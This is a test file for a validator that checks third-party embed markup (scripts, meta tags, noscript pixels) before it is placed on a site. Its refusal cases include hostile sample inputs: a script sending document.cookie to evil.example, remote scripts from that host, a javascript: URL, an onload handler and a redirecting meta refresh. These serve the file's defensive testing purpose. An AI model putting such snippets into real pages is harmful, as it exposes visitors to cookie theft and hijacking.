import fc from 'fast-check';
import { expect, test } from 'vitest';
import { faultOfElements, proofsIn, readMarkup, writeMarkup, type Place } from './script-markup.rules.ts';

const hosts = ['https://www.example.com'];
/** The hash of a file, as the vendor publishes it or openssl computes it. */
const sri =
  'integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC" crossorigin="anonymous"';
const faultOf = (markup: string, place: Place = 'head', isLocal = false) => {
  const read = readMarkup(markup, place);
  return 'fault' in read ? read.fault.code : (faultOfElements(read.elements, hosts, isLocal)?.code ?? null);
};

test.each([
  [`<script src="https://www.example.com/a.js" ${sri} async data-site="melur"></script>`, 'head'],
  [
    "\n<!-- their comment -->\n<SCRIPT type='text/javascript'>window.q = window.q || []; // count\n</SCRIPT>\n<link rel=preconnect href=https://www.example.com>",
    'head',
  ],
  [`<script src="https://www.example.com/a.js" ${sri.replace('="anonymous"', '')}></script>`, 'body'],
  [
    '<div id="chat" class="wide" data-theme="teal"></div><img src="https://www.example.com/p.gif?a=1&amp;b=2" width=1 height=1 alt>',
    'body',
  ],
  ['<script>fetch("https://www.example.com/x"); load("//www.example.com/y")</script>', 'head'],
  ['<meta name="google-site-verification" content="rXOxyZounnZasA8Z7oaD3c14JdjS9aKSWvsR1EbUSIQ" />', 'head'],
  ['<meta name="msvalidate.01" content="5F0C1A2B">', 'head'],
  [
    '<noscript><iframe src="https://www.example.com/ns.html?id=GTM-1" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>',
    'body',
  ],
  [
    '<noscript>\n<img height="1" width="1" style="display:none" src="https://www.example.com/tr?id=1"/>\n</noscript>',
    'head',
  ],
] as [string, Place][])('what companies give out is understood: %s', (markup, place) => {
  expect(faultOf(markup, place)).toBeNull();
});

test.each([
  ['plain text', 'unreadable'],
  ['<script src="https://www.example.com/a.js">', 'unreadable'],
  ['<script src="https://www.example.com/a.js', 'unreadable'],
  ['<iframe src="https://www.example.com/"></iframe>', 'element'],
  ['<style>*{display:none}</style>', 'element'],
  ['<noscript><img src=x></noscript>', 'address'],
  ['<noscript><img src="https://evil.example/p.gif"></noscript>', 'host'],
  ['<noscript><iframe src="https://evil.example/"></iframe></noscript>', 'host'],
  ['<noscript><iframe src="https://www.example.com/" srcdoc="x"></iframe></noscript>', 'attribute'],
  ['<noscript><img src="https://www.example.com/p.gif" style="position:fixed"></noscript>', 'attribute'],
  ['<noscript><script>1</script></noscript>', 'element'],
  ['<noscript><style>*{}</style></noscript>', 'element'],
  ['<noscript>words</noscript>', 'unreadable'],
  [
    '<noscript><img src="https://www.example.com/p.gif"><img src="https://www.example.com/q.gif"></noscript>',
    'unreadable',
  ],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'attribute'],
  ['<meta name="referrer" content="unsafe-url">', 'attribute'],
  ['<meta name="robots" content="noindex">', 'attribute'],
  ['<meta name="google-site-verification" content="<script>">', 'attribute'],
  ['<img src="https://www.example.com/p.gif">', 'element'],
  ['<script src="https://www.example.com/a.js" onload="steal()"></script>', 'attribute'],
  ['<script nonce="x">1</script>', 'attribute'],
  ['<script type="application/ld+json">{}</script>', 'attribute'],
  ['<link rel="stylesheet" href="https://www.example.com/a.css">', 'attribute'],
  ['<script src="http://www.example.com/a.js"></script>', 'address'],
  ['<script src="/local.js"></script>', 'address'],
  ['<script src="javascript:alert(1)"></script>', 'address'],
  ['<script src="https://user:pw@www.example.com/a.js"></script>', 'address'],
  ['<script src="data:text/javascript,1"></script>', 'address'],
  ['<script src="https://evil.example/a.js"></script>', 'host'],
  ['<script src="//evil.example/a.js"></script>', 'host'],
  ['<script src="https://www.example.com:8443/a.js"></script>', 'host'],
  ['<script>new Image().src = "https://evil.example/?" + document.cookie</script>', 'host'],
  ['<script>load("//evil.example/x")</script>', 'host'],
  ['<script>fetch("http://www.example.com/")</script>', 'address'],
  ['<script src="https://www.example.com/a.js">also()</script>', 'inline'],
  ['<script></script>', 'inline'],
  ['<script src="https://www.example.com/a.js"></script>', 'integrity'],
  ['<script src="https://www.example.com/a.js" integrity="" crossorigin></script>', 'integrity'],
  ['<script src="https://www.example.com/a.js" integrity="md5-x sha384-short" crossorigin></script>', 'integrity'],
  [`<script src="https://www.example.com/a.js" ${sri.replace(' crossorigin="anonymous"', '')}></script>`, 'attribute'],
  ['<script><!-- <script> x</script>', 'inline'],
  ['<script src="http://localhost:9/a.js"></script>', 'address'],
])('refused: %s is %s', (markup, code) => {
  expect(faultOf(markup)).toBe(code);
});

test('outside production a program of this very machine may be tried', () => {
  expect(faultOf('<script src="http://localhost:9/a.js"></script>', 'head', true)).toBe('host');
});

test('what was read is written in one spelling, marked when it waits for consent, and read back the same', () => {
  const read = readMarkup(
    '<script SRC=https://www.example.com/a.js async></script>\n<script>go("a & b")</script>',
    'head',
  );
  if ('fault' in read) throw new Error(read.fault.code);
  const written = writeMarkup(read.elements, true);
  expect(written).toBe(
    '<script src="https://www.example.com/a.js" async data-needs-consent></script>\n<script data-needs-consent>go("a & b")</script>',
  );
  expect(readMarkup(writeMarkup(read.elements, false), 'head')).toEqual(read);
});

test('no text at all is read for longer than a moment, and what is accepted never holds a handler or another host', () => {
  const piece = fc.constantFrom(
    '<script',
    '</script>',
    ' src="',
    'https://www.example.com/a.js',
    'https://evil.example/',
    '"',
    "'",
    '>',
    '<!--',
    '-->',
    ' onload=',
    'x',
    '<div',
    '</div>',
    '<img',
    ' ',
    '=',
    '//',
    '\n',
  );
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 60 }).map((parts) => parts.join('')),
      fc.constantFrom<Place>('head', 'body'),
      (markup, place) => {
        const read = readMarkup(markup, place);
        if ('fault' in read || faultOfElements(read.elements, hosts, false)) return;
        const written = writeMarkup(read.elements, false);
        expect(written).not.toMatch(/ onload| https:\/\/evil/);
      },
    ),
    { numRuns: 500 },
  );
  const startedAt = performance.now();
  for (const text of ['<script ', '<!--', '<div a', ' x="', '<'].map((part) => part.repeat(4_000)))
    readMarkup(text, 'head');
  expect(performance.now() - startedAt).toBeLessThan(2_000);
});

test('a noscript and a proof of ownership are written back without what hid them; a proof waits for no consent', () => {
  const read = readMarkup(
    '<meta name="google-site-verification" content="abc"><noscript><img style="display:none" src="https://www.example.com/p.gif"></noscript>',
    'head',
  );
  if ('fault' in read) throw new Error(read.fault.code);
  expect(writeMarkup(read.elements, true)).toBe(
    '<meta name="google-site-verification" content="abc">\n<noscript data-needs-consent><img src="https://www.example.com/p.gif"></noscript>',
  );
  expect(proofsIn(read.elements)).toEqual([{ name: 'google-site-verification', content: 'abc' }]);
});
